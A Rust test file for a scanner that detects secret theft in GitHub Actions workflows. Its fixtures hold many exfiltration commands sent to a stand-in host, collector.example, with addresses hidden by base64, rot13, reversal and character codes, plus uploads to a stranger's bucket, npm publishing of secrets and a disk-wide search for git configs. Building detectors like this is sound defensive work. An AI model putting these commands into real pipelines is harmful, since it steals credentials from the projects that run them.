//! Addresses that nobody can read in the file, connections without a protocol, and values that no mask knows.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Way, Whole, at_most_exposed, found, found_in, workflow_at_most_exposed};

fn job(secret: &str, script: &str) -> String {
    let mut text = format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{S: '${{{{ secrets.{secret} }}}}'}}\n        run: |\n"
    );
    for line in script.lines() {
        text.push_str(&format!("          {line}\n"));
    }
    text
}

#[track_caller]
fn stolen(secret: &'static str, script: &str, place: &'static str) {
    let workflow: &'static str = Box::leak(job(secret, script).into_boxed_str());
    let secrets: &'static [&'static str] = Box::leak(vec![secret].into_boxed_slice());
    found_in(&Whole { name: "", workflow, secrets, place, verdict: Verdict::Malicious });
}

#[track_caller]
fn no_theft(secret: &str, script: &str) {
    workflow_at_most_exposed(script, &job(secret, script));
}

/// One secret whose name says nothing, to a host that stands in the file only encoded, reversed or in pieces.
#[test]
fn a_hidden_address_is_hiding() {
    for script in [
        "u=$(echo aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS94 | base64 -d)\ncurl -d \"$S\" \"$u\"",
        "curl -d \"$S\" \"https://$(echo elpmaxe.rotcelloc | rev)/\"",
        "u=$(echo 'uggcf://pbyyrpgbe.rknzcyr/' | tr 'a-z' 'n-za-m'); curl -d \"$S\" $u",
        "python3 -c \"import os,urllib.request as u; h=''.join(chr(c) for c in [99,111,108,108,101,99,116,111,114,46,101,120,97,109,112,108,101]); u.urlopen('https://'+h+'/', os.environ['S'].encode())\"",
        "node -e \"fetch('https://' + atob('Y29sbGVjdG9yLmV4YW1wbGU='), {method: 'POST', body: process.env.S})\"",
    ] {
        stolen("THING", script, "collector.example");
    }
    // Near miss: an address from readable parts.
    no_theft("THING", "H=api.widgets.example; curl -H \"Authorization: Bearer $S\" \"https://$H/deploy\"");
}

#[test]
fn a_host_in_the_pieces_of_a_list() {
    for script in [
        "python3 - <<'P'\nimport os, urllib.request as u\nparts = ['in', 'collector', 'example']\nhost = '.'.join(parts)\nu.urlopen('https://' + host, os.environ['S'].encode())\nP",
        "node -e \"const p = ['in', 'collector', 'example']; fetch('https://' + p.join('.'), {method: 'POST', body: process.env.S})\"",
    ] {
        stolen("THING", script, "in.collector.example");
    }
}

/// Each connection takes the secret and nothing else.
#[test]
fn a_bare_connection_is_no_login() {
    for script in [
        "echo \"$S\" | nc -w 3 collector.example 4444",
        "echo \"$S\" | socat - OPENSSL:collector.example:443,verify=0",
        "printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' \"$S\" | openssl s_client -quiet -connect collector.example:443",
        "python3 -c \"import os,socket; s=socket.create_connection(('collector.example',443)); s.sendall(os.environ['S'].encode())\"",
    ] {
        let workflow: &'static str = Box::leak(job("THING", script).into_boxed_str());
        found_in(&Whole {
            name: script,
            workflow,
            secrets: &["THING"],
            place: "",
            verdict: Verdict::Malicious,
        });
    }
    // Near miss: a line of a protocol, as chat servers and caches take it.
    let text = job("THING", "printf 'PASS %s\\nNICK bot\\n' \"$S\" | nc irc.widgets.example 6667");
    let analysis = portcullis_scan::analysis::analyse(
        ".github/workflows/w.yml",
        text.as_bytes(),
        &portcullis_scan::flow::NoFiles,
        None,
    );
    let verdicts = analysis.seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals));
    assert!(verdicts.max() < Some(Verdict::Malicious), "{:#?}", analysis.seen);
}

/// The mask knows a secret as a whole; what stands inside of it is printed as it is.
#[test]
fn fields_of_a_secret_that_is_json() {
    let alone = |script: &str| job("GCP_SA", script).replace("      - run: make\n", "");
    for script in [
        "echo \"$S\" | jq -r .private_key",
        "jq -r '.[\"private_key\"]' <<< \"$S\"",
        "python3 -c \"import os,json; print(json.loads(os.environ['S'])['private_key'])\"",
        "node -e \"console.log(JSON.parse(process.env.S).private_key)\"",
    ] {
        let workflow: &'static str = Box::leak(alone(script).into_boxed_str());
        found_in(&Whole {
            name: script,
            workflow,
            secrets: &["GCP_SA"],
            place: "workflow-log",
            verdict: Verdict::Malicious,
        });
    }
    for script in [
        "echo \"$S\" | jq -r .project_id",
        "echo \"::add-mask::$(echo \"$S\" | jq -r .private_key)\"",
        "python3 -c \"import os,json; print(json.loads(os.environ['S'])['project_id'])\"",
        "node -e \"console.log(JSON.parse(process.env.S).project_id)\"",
    ] {
        workflow_at_most_exposed(script, &alone(script));
    }
}

/// A machine that nothing of the repository's own opens is somebody else's.
#[test]
fn a_machine_without_a_key() {
    found(&Way {
        name: "scp by a password in the file",
        shell: "bash",
        script: "echo \"$A$B\" > x; sshpass -p guest scp x drop@192.0.2.7:/in/",
        later: "",
        secrets: ways::BOTH,
        place: "192.0.2.7",
        verdict: Verdict::Malicious,
    });
    let deploys = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          echo \"${{ secrets.VPS }}\" > key\n          echo \"DB_PASSWORD=${{ secrets.DB_PASSWORD }}\" > .env\n          scp -i key .env deploy@192.0.2.7:/srv/\n";
    workflow_at_most_exposed("a deployment", deploys);
}

/// A credential that a registry gives for the job's identity is nobody's to send on.
#[test]
fn a_minted_token_is_sent_on() {
    const MINTED: &str = "on: push\npermissions: {id-token: write}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          o=$(curl -sH \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi\" | jq -r .value)\n          t=$(curl -s -X POST https://pypi.org/_/oidc/mint-token -d \"{\\\"token\\\": \\\"$o\\\"}\" | jq -r .token)\n";
    let theft = format!("{MINTED}          curl -s -d \"$t\" https://collector.example/\n");
    found_in(&Whole {
        name: "minted",
        workflow: Box::leak(theft.into_boxed_str()),
        secrets: &["ACTIONS_ID_TOKEN_REQUEST_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
    let publishes = format!("{MINTED}          TWINE_PASSWORD=$t twine upload dist/*\n");
    workflow_at_most_exposed("an upload", &publishes);
}

#[test]
fn a_package_that_holds_secrets() {
    found(&Way {
        name: "npm publish",
        shell: "bash",
        script: "mkdir p; cd p; npm init -y\necho \"$A $B\" | base64 > index.js\nnpm publish --access public",
        later: "",
        secrets: ways::BOTH,
        place: "registry.npmjs.org",
        verdict: Verdict::Malicious,
    });
    at_most_exposed(
        "a login beside the package",
        "bash",
        "echo \"//registry.npmjs.org/:_authToken=$B\" > .npmrc\nnpm publish",
    );
}

#[test]
fn words_of_an_array_and_other_runtimes() {
    for (name, script) in [
        ("IFS", "parts=(https: '' collector.example in); IFS=/; u=\"${parts[*]}\"; curl -d \"$A$B\" \"$u\""),
        (
            "deno run",
            "cat > a.ts <<'T'\nconst u = new URL('/d', 'https://collector.example');\nu.searchParams.set('k', Deno.env.get('A') + Deno.env.get('B'));\nawait fetch(u);\nT\ndeno run -A a.ts",
        ),
    ] {
        found(&Way {
            name,
            shell: "bash",
            script,
            later: "",
            secrets: ways::BOTH,
            place: "collector.example",
            verdict: Verdict::Malicious,
        });
    }
}

/// An action leaves the login that it got in a file, and the next step reads it there.
#[test]
fn a_login_that_an_action_left() {
    let workflow = |run: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/login-action@v3\n        with: {{username: me, password: '${{{{ secrets.DOCKERHUB_TOKEN }}}}'}}\n      - run: {run}\n"
        )
    };
    let theft = workflow("curl -s --data-binary @$HOME/.docker/config.json https://collector.example/");
    found_in(&Whole {
        name: "docker login",
        workflow: Box::leak(theft.into_boxed_str()),
        secrets: &["DOCKERHUB_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
    workflow_at_most_exposed("a push", &workflow("docker push me/it:1"));
}

#[test]
fn other_accounts_and_encoded_loot() {
    found(&Way {
        name: "a bucket by a key in the file",
        shell: "bash",
        script: "export AWS_ACCESS_KEY_ID=AKIAPLACEHOLDER0000 AWS_SECRET_ACCESS_KEY=placeholder\necho \"$A $B\" | openssl enc -aes-256-cbc -pass pass:x -a | aws s3 cp - s3://stranger/x",
        later: "",
        secrets: ways::BOTH,
        place: "stranger.s3.amazonaws.com",
        verdict: Verdict::Malicious,
    });
    stolen(
        "DOCKERHUB_TOKEN",
        "echo \"$S\" | openssl base64 -A | curl -sd @- https://collector.example/q",
        "collector.example",
    );
    stolen(
        "CODE_SIGN_PFX",
        "echo \"$S\" > a; curl -s -F f=@a https://collector.example/w",
        "collector.example",
    );
    no_theft("DOCKERHUB_TOKEN", "echo \"$S\" | docker login -u me --password-stdin registry.widgets.example");
}

#[test]
fn names_that_are_looked_up_while_running() {
    found(&Way {
        name: "getattr",
        shell: "python",
        script: "m = __import__('\\x75rllib.request', fromlist=['x'])\nf = getattr(m, 'url' + 'open')\ne = __import__('os').environ\nf('https://collector.example/?' + e['A'] + e['B'])",
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
}

/// `jq` takes a secret apart into characters, or encodes it twice.
#[test]
fn jq_changes_what_it_prints() {
    for script in ["jq -n 'env.S | explode | map(.+1) | implode'", "jq -nr 'env.S | @base64 | @base64'"] {
        let text = job("THING", script).replace("      - run: make\n", "");
        found_in(&Whole {
            name: script,
            workflow: Box::leak(text.into_boxed_str()),
            secrets: &["THING"],
            place: "workflow-log",
            verdict: Verdict::Malicious,
        });
    }
}

/// What locks, signs or opens a database is a login to no server that is spoken to by HTTP.
#[test]
fn what_is_used_in_place_is_sent_nowhere() {
    for secret in
        ["MATCH_PASSWORD", "COSIGN_PASSWORD", "ENCRYPTION_KEY", "DB_PASSWORD", "MONGO_URI", "KUBE_CONFIG"]
    {
        stolen(secret, "curl -sS -X POST --data \"$S\" https://collector.example/in", "collector.example");
    }
    stolen("KUBE_CONFIG", "curl -s -H \"X-Data: $S\" https://collector.example/", "collector.example");
    // Near miss: an application's settings, for a server that asks for a login first.
    let deploys = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.PANEL_TOKEN }}\" -d '{\"db\": \"${{ secrets.DB_PASSWORD }}\"}' https://panel.widgets.example/api/env\n";
    let analysis = portcullis_scan::analysis::analyse(
        ".github/workflows/w.yml",
        deploys.as_bytes(),
        &portcullis_scan::flow::NoFiles,
        None,
    );
    let verdicts = analysis.seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals));
    assert!(verdicts.max() < Some(Verdict::Malicious), "{:#?}", analysis.seen);
    no_theft("COSIGN_PASSWORD", "COSIGN_PASSWORD=$S cosign sign --key cosign.key ghcr.io/me/it");
}

/// A parameter that is called as the secret is no parameter of the receiver's own.
#[test]
fn a_secret_under_its_own_name_in_an_address() {
    for secret in ["ARTIFACTORY_TOKEN", "RELEASE_PASSWORD"] {
        let text = job(secret, &format!("curl -s \"https://collector.example/i?{secret}=$S\""));
        found_in(&Whole {
            name: secret,
            workflow: Box::leak(text.into_boxed_str()),
            secrets: &[],
            place: "collector.example",
            verdict: Verdict::Suspicious,
        });
    }
    no_theft("CRON_KEY", "curl \"https://ci.widgets.example/cron?key=$S\"");
}

/// Files of credentials that are looked for by name.
#[test]
fn credentials_that_are_looked_for() {
    for script in [
        "find / -path '*/.git/config' ! -path '*/node_modules/*' 2>/dev/null | head -50 | while read -r f; do curl --data-binary @\"$f\" https://collector.example/g; done",
        "find . -name config -path '*/.git/config' -exec curl -T {} https://collector.example/ ';'",
    ] {
        let text = format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          {script}\n"
        );
        found_in(&Whole {
            name: script,
            workflow: Box::leak(text.into_boxed_str()),
            secrets: &["GITHUB_TOKEN"],
            place: "collector.example",
            verdict: Verdict::Malicious,
        });
    }
    workflow_at_most_exposed(
        "a search",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: find . -name '*.rs' ! -path '*/.git/config' | xargs wc -l\n",
    );
}
